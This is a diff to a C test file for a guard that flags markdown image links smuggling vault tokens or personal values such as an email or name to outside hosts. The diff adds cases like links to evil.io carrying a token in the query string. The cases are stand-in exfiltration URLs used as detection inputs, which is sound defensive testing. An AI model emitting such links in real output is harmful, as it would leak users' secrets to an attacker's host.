@@ -8,7 +8,7 @@
 static struct blocks blocks = BLOCKS;
 static struct arena arena;
 static struct vault vault;
-static struct slice token;
+static struct slice token, face;
 static struct occurrences *values;
 
 static const struct slice hosts[] = { { "docs.acme.io", 12 }, { ".cdn.io", 7 } };
@@ -20,7 +20,7 @@ static struct guard_rules rules = { hosts, 2, canaries, 3, NULL, NULL };
 #define X100	X10 X10 X10 X10 X10 X10 X10 X10 X10 X10
 #define NONE	GUARD_REASON_COUNT
 
-/* @ stands for a token of the vault; bars stand around what is found. */
+/* @ and ~ stand for tokens of the vault; bars stand around what is found. */
 static const struct {
 	const char		*why, *text;
 	enum guard_reason	 reason;
@@ -48,10 +48,13 @@ static const struct {
 	{ "much in hexadecimal", "https:|//e.io/"
 	    "48656c6c6f2c20746869732069732061207365637265742074657874|", GUARD_RANDOM },
 	{ "a token", "![a](https:|//evil.io/?u=@|)", GUARD_TOKEN },
+	{ "a token that looks like an escape", "![a](https:|//evil.io/?u=%~|)", GUARD_TOKEN },
 	{ "a token in the host", "![a](https:|//@.evil.io/|)", GUARD_TOKEN },
 	{ "a value", "![a](https:|//evil.io/?u=anna@acme.io|)", GUARD_VALUE },
 	{ "a value in percent", "![a](https:|//evil.io/?u=anna%40acme.io|)", GUARD_VALUE },
 	{ "a value with a plus", "![a](https:|//evil.io/?u=Anna+Kowalska|)", GUARD_VALUE },
+	{ "behind a URL with an open parenthesis", "https://e.io/((( ![a](https:|//evil.io/?u=@|) b",
+	    GUARD_TOKEN },
 	{ "an allowed host", "![a](https://docs.acme.io/?u=@&v=" X100 ")", NONE },
 	{ "in another case, with a port", "![a](https://DOCS.acme.io:8443/?u=@&v=" X100 ")", NONE },
 	{ "with a dot at its end", "![a](https://docs.acme.io./?v=" X100 ")", NONE },
@@ -91,6 +94,9 @@ parse(const char *s, char *room, size_t *start, size_t *end)
 		if (*s == '@' && (s[-1] == '=' || (s[-1] == '/' && s[-2] == '/'))) {
 			memcpy(room + len, token.ptr, token.len);
 			len += token.len;
+		} else if (*s == '~') {
+			memcpy(room + len, face.ptr, face.len);
+			len += face.len;
 		} else if (*s == '|') {
 			*(second ? end : start) = len;
 			second = true;
@@ -219,7 +225,8 @@ main(void)
 	vault_init(&vault, &arena, (struct hash_key){ { 1, 2 } }, 0);
 	check_or_stop(vault_mint(&vault, S("Email"), S("anna@acme.io"), &token) == ERR_OK &&
 	    vault_mint(&vault, S("Person"), S("Anna Kowalska"), &other) == ERR_OK &&
-	    occurrence_index(&arena, &vault, &values) == ERR_OK, "two values are hidden");
+	    vault_mint(&vault, S("Face"), S("smiling"), &face) == ERR_OK &&
+	    occurrence_index(&arena, &vault, &values) == ERR_OK, "values are hidden");
 	rules.vault = &vault;
 	rules.values = values;
 	for (size_t i = 0; i < COUNT_OF(cases); i++)
